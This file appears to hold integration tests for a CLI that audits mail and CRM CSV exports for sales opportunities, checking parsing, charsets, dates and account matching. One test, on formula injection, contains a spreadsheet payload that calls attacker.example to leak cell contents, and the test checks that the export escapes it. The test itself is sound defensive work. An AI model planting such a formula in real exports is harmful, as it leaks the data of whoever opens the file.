// The bug-report cases, run through the real bin on their own files, with the
// values each case expects: signals, quantities, dates, matches and exports.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, test } from 'vitest';
import type { AuditReport } from '../../src/report/schema.js';
import type { Opportunity } from '../../src/types.js';
import { runLeak } from '../helpers/cli.js';
import { casePath, FIXTURES } from '../helpers/paths.js';

/** Mail for the cases that bring only a CRM export: --crm needs --mbox or --eml. */
const SAMPLE_MBOX = path.join(FIXTURES, 'sample', 'inbox.mbox');

async function audit(args: string[]): Promise<AuditReport> {
  const result = await runLeak(['audit', '--json', '--no-progress', ...args]);
  expect(result.stderr).not.toContain('internal error');
  expect(result.status).toBe(0);
  return JSON.parse(result.stdout) as AuditReport;
}

async function auditCase(caseDir: string, mbox: string, withCrm = false): Promise<AuditReport> {
  const args = ['--mbox', casePath(caseDir, mbox)];
  if (withCrm) args.push('--crm', casePath(caseDir, 'crm.csv'));
  return await audit(args);
}

function find(report: AuditReport, account: string, category: Opportunity['category']): Opportunity | undefined {
  return report.opportunities.find((item) => item.account === account && item.category === category);
}

function accountsWith(report: AuditReport, category: Opportunity['category']): string[] {
  return report.opportunities
    .filter((item) => item.category === category)
    .map((item) => item.account)
    .sort();
}

describe('001 unescaped From lines', () => {
  test('inbox keeps three messages and the signal', async () => {
    const report = await auditCase('001-mbox-unescaped-from-line', 'inbox.mbox');
    expect(report.inputs.mailboxes[0]?.messages).toBe(3);
    const expansion = find(report, 'northwind.example', 'expansion');
    expect(expansion?.quantity).toBe(25);
    expect(expansion?.evidence[0]?.snippet).toContain('From January we want to add 25 more seats');
    expect(report.opportunities).toHaveLength(1);
  });

  test('bare separators split two messages', async () => {
    const report = await auditCase('001-mbox-unescaped-from-line', 'bare-separators.mbox');
    expect(report.inputs.mailboxes[0]?.messages).toBe(2);
    expect(find(report, 'lumiere-events.example', 'closing')).toBeDefined();
    expect(find(report, 'lumiere-events.example', 'expansion')?.quantity).toBe(12);
  });
});

describe('002 mboxrd escaping', () => {
  test('fresh escaped line is one signal of 10', async () => {
    const report = await auditCase('002-mboxrd-escaped-from-unquote', 'inbox.mbox');
    expect(report.opportunities).toHaveLength(1);
    const expansion = find(report, 'durand-btp.example', 'expansion');
    expect(expansion?.quantity).toBe(10);
    expect(expansion?.evidence[0]?.snippet).toBe(
      'From next month on we need 10 additional licences for the Nantes site.',
    );
  });
});

describe('004 split encoded-word subject', () => {
  test('subject decodes and carries the signal', async () => {
    const report = await audit(['--eml', casePath('004-header-encoded-word-split', 'message.eml')]);
    const expansion = find(report, 'lumiere-events.example', 'expansion');
    expect(expansion?.quantity).toBe(30);
    expect(expansion?.evidence[0]?.subject).toBe('Renouvellement 2027 : 30 licences supplémentaires');
    expect(expansion?.evidence[0]?.from).toBe('Françoise Lefèvre <francoise.lefevre@lumiere-events.example>');
    expect(find(report, 'lumiere-events.example', 'closing')).toBeDefined();
  });
});

describe('005 mislabelled charsets', () => {
  test('utf-8 under latin-1 label still matches', async () => {
    const report = await auditCase('005-body-charset-mislabel', 'inbox.mbox');
    const snippets = report.opportunities.flatMap((item) => item.evidence.map((evidence) => evidence.snippet));
    expect(snippets).toContain('Nous voulons passer à 40 licences supplémentaires en janvier.');
    expect(snippets).toContain('Suite à l’appel, merci de nous envoyer le devis pour l’extension.');
    expect(snippets).toContain('Budget validé : 12 500 € HT pour l’extension.');
    expect(snippets.join('\n')).not.toMatch(/\uFFFD|Ã|[\u0080-\u009f]/);
    expect(report.opportunities.some((item) => item.category === 'expansion' && item.quantity === 40)).toBe(true);
    expect(report.opportunities.some((item) => item.category === 'closing')).toBe(true);
  });
});

describe('006 html-only bodies', () => {
  test('html alternative gives the quote signal', async () => {
    const report = await audit(['--eml', casePath('006-html-only-body', 'alt-html-only.eml')]);
    expect(find(report, 'acme.example', 'closing')).toBeDefined();
    expect(find(report, 'acme.example', 'expansion')?.quantity).toBe(50);
    const snippet = find(report, 'acme.example', 'expansion')?.evidence[0]?.snippet ?? '';
    expect(snippet).toContain('We would like a quote for 50 additional user licences.');
    expect(snippet).not.toMatch(/<|&nbsp;/);
  });

  test('blank text part falls back to html', async () => {
    const report = await audit(['--eml', casePath('006-html-only-body', 'empty-text-part.eml')]);
    const snippets = report.opportunities.flatMap((item) => item.evidence.map((evidence) => evidence.snippet));
    expect(snippets.join('\n')).toContain('Nous souhaitons passer à l’offre Entreprise pour 20 utilisateurs.');
    expect(report.opportunities.some((item) => item.quantity === 20)).toBe(true);
  });
});

describe('008 named time zones', () => {
  test('cest message dated in utc', async () => {
    const report = await auditCase('008-date-named-timezone', 'inbox.mbox');
    const expansion = find(report, 'globex.example', 'expansion');
    expect(expansion?.quantity).toBe(6);
    expect(expansion?.firstSeen).toBe('2026-10-14T14:40:00Z');
    const problem = report.problems.find((item) => item.code === 'MESSAGE_DATE_INVALID');
    expect(problem?.where).toMatch(/^message 5\b/);
  });
});

describe('009 bom before quoted header', () => {
  test('email match on the first column', async () => {
    const report = await auditCase('009-csv-bom-quoted-header', 'inbox.mbox', true);
    expect(report.inputs.crm?.[0]?.rows).toBe(3);
    const expansion = find(report, 'Lumière Events', 'expansion');
    expect(expansion?.quantity).toBe(10);
    expect(expansion?.crm.matchedBy).toBe('email');
    expect(expansion?.crm.status).toBe('invisible');
  });
});

describe('010 french excel resave', () => {
  const crm = casePath('010-csv-excel-fr-resave', 'crm.csv');

  test('crm inspect finds semicolon and windows-1252', async () => {
    const result = await runLeak(['crm', 'inspect', '--json', crm]);
    expect(result.status).toBe(0);
    const inspection = JSON.parse(result.stdout) as {
      encoding: string;
      delimiter: string;
      rows: number;
      amountTotals: Record<string, number>;
      dateOrders: Record<string, { order: string }>;
    };
    expect(inspection.encoding).toBe('windows-1252');
    expect(inspection.delimiter).toBe(';');
    expect(inspection.rows).toBe(4);
    expect(inspection.amountTotals.EUR).toBe(22100.5);
    expect(inspection.dateOrders.closeDate?.order).toBe('day-first');
  });

  test('accented account matched by contact email', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'leak-case-010-'));
    const eml = path.join(dir, 'request.eml');
    writeFileSync(
      eml,
      [
        'From: Jean-Baptiste Morel <jean-baptiste.morel@durand-btp.example>',
        'To: Claire Besson <claire.besson@vendor.example>',
        'Subject: Chantier de Nantes',
        'Date: Tue, 10 Nov 2026 09:00:00 +0100',
        'Message-ID: <010-request@durand-btp.example>',
        '',
        'Bonjour Claire, il nous faudrait 5 licences supplémentaires pour le chantier.',
        '',
      ].join('\r\n'),
    );
    const report = await audit(['--eml', eml, '--owner', 'claire.besson@vendor.example', '--crm', crm]);
    const expansion = find(report, 'Bâtiments Durand', 'expansion');
    expect(expansion?.crm.matchedBy).toBe('email');
    expect(expansion?.quantity).toBe(5);
  });
});

describe('012 ragged rows', () => {
  test('long row rejected with its line and field counts', async () => {
    const report = await audit(['--mbox', SAMPLE_MBOX, '--crm', casePath('012-csv-ragged-rows', 'deals.csv')]);
    expect(report.inputs.crm?.[0]?.rows).toBe(3);
    const ragged = report.problems.find((item) => item.code === 'CSV_RAGGED_ROW');
    expect(ragged?.where).toBe('line 3');
    expect(ragged?.detail).toMatch(/7 fields.*6/);
  });
});

describe('014 amount formats', () => {
  test('totals kept per currency', async () => {
    const report = await audit(['--mbox', SAMPLE_MBOX, '--crm', casePath('014-amount-locale-formats', 'crm.csv')]);
    expect(report.inputs.crm?.[0]?.amountTotals).toEqual({ EUR: 61725.37, USD: 1234.5 });
    expect(JSON.stringify(report)).not.toContain('NaN');
  });

  test('terminal prints each currency total apart', async () => {
    const result = await runLeak([
      'audit',
      '--no-progress',
      '--mbox',
      SAMPLE_MBOX,
      '--crm',
      casePath('014-amount-locale-formats', 'crm.csv'),
    ]);
    expect(result.stdout).toContain('amounts EUR 61,725.37; USD 1,234.50');
  });
});

describe('015 formula injection', () => {
  test('export cells are escaped and amounts numeric', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'leak-case-015-'));
    const csvFile = path.join(dir, 'out.csv');
    const result = await runLeak([
      'audit',
      '--no-progress',
      '--mbox',
      casePath('015-export-formula-injection', 'inbox.mbox'),
      '--crm',
      casePath('015-export-formula-injection', 'crm.csv'),
      '--csv',
      csvFile,
    ]);
    expect(result.status).toBe(0);
    const terminal = await runLeak([
      'audit',
      '--no-progress',
      '--verbose',
      '--mbox',
      casePath('015-export-formula-injection', 'inbox.mbox'),
    ]);
    expect(terminal.stdout).toContain('=HYPERLINK(');
    expect(terminal.stdout).not.toContain("'=HYPERLINK(");
    const rows = parse(readFileSync(csvFile), { columns: true, bom: true }) as Record<string, string>[];
    const subjects = rows.map((row) => row.first_evidence_subject);
    expect(subjects).toContain(`'=HYPERLINK("http://attacker.example/?leak="&A2;"Voir le devis")`);
    expect(subjects).toContain(`'@Claire : renouvellement 2027 validé`);
    const senders = rows.map((row) => row.first_evidence_from);
    expect(senders).toContain(`'@SUM(1+1) Achats <achats@globex.example>`);
    for (const row of rows) {
      expect(row.first_evidence_snippet?.startsWith('+')).toBe(false);
      expect(row.crm_amount).toMatch(/^-?\d+\.\d\d$/);
    }
    expect(rows.every((row) => row.crm_account === 'Globex Logistics')).toBe(true);
  });
});

describe('017 outlook history blocks', () => {
  test('history gives no signal', async () => {
    const report = await auditCase('017-reply-header-undermatch', 'thread.mbox');
    expect(report.inputs.mailboxes[0]?.messages).toBe(2);
    expect(report.opportunities).toHaveLength(0);
  });
});

describe('018 auto-replies and bulk', () => {
  test('only the group-address reply signals', async () => {
    const report = await auditCase('018-auto-reply-bulk-classification', 'inbox.mbox', true);
    expect(report.inputs.mailboxes[0]?.messages).toBe(4);
    expect(report.exclusions.byKind['auto-reply']).toBe(2);
    expect(report.exclusions.byKind.bulk).toBe(1);
    const expansion = find(report, 'Globex Logistics', 'expansion');
    expect(expansion?.quantity).toBe(15);
    expect(expansion?.crm.matchedBy).toBe('domain');
    expect(new Set(report.opportunities.map((item) => item.account))).toEqual(new Set(['Globex Logistics']));
  });

  test('verbose lists the exclusions', async () => {
    const result = await runLeak([
      'audit',
      '--no-progress',
      '--verbose',
      '--mbox',
      casePath('018-auto-reply-bulk-classification', 'inbox.mbox'),
    ]);
    expect(result.status).toBe(0);
    expect(result.stdout).toMatch(/auto-reply/);
    expect(result.stdout).toMatch(/bulk/);
  });
});

describe('020 domain matching', () => {
  let report: AuditReport;
  beforeAll(async () => {
    report = await auditCase('020-domain-matching', 'inbox.mbox', true);
  });

  test('matches follow the case table', () => {
    const byContact = new Map(report.opportunities.map((item) => [item.contacts[0], item]));
    expect(byContact.get('sophie.martin@mail.acme.example')?.crm.account).toBe('Acme Robotique');
    expect(byContact.get('sophie.martin@mail.acme.example')?.crm.matchedBy).toBe('domain');
    expect(byContact.get('lea.fontaine@notacme.example')?.crm.account).toBe('NotAcme Conseil');
    expect(byContact.get('lea.fontaine@notacme.example')?.crm.matchedBy).toBe('domain');
    expect(byContact.get('sam.diaz@acme.example.org')?.crm.account).toBeNull();
    expect(byContact.get('boulangerie.petit.demo@gmail.com')?.crm.account).toBe('Boulangerie Petit');
    expect(byContact.get('boulangerie.petit.demo@gmail.com')?.crm.matchedBy).toBe('email');
    expect(byContact.get('client.demo.4821@gmail.com')?.crm.account).toBeNull();
  });

  test('unmatched signals keep their quantities', () => {
    const quantities = report.opportunities
      .filter((item) => item.crm.account === null)
      .map((item) => item.quantity);
    expect(quantities).toContain(7);
    expect(quantities).toContain(1);
  });
});

describe('022 negation scope', () => {
  test('three signals with their quantities', async () => {
    const report = await auditCase('022-negation-scope', 'inbox.mbox');
    expect(accountsWith(report, 'expansion')).toEqual(['acme.example', 'durand-btp.example', 'northwind.example']);
    expect(accountsWith(report, 'upgrade')).toEqual([]);
    const quantities = new Map(report.opportunities.map((item) => [item.account, item.quantity]));
    expect(quantities.get('northwind.example')).toBe(15);
    expect(quantities.get('durand-btp.example')).toBe(25);
    expect(quantities.get('acme.example')).toBe(10);
    expect(report.opportunities).toHaveLength(3);
  });
});
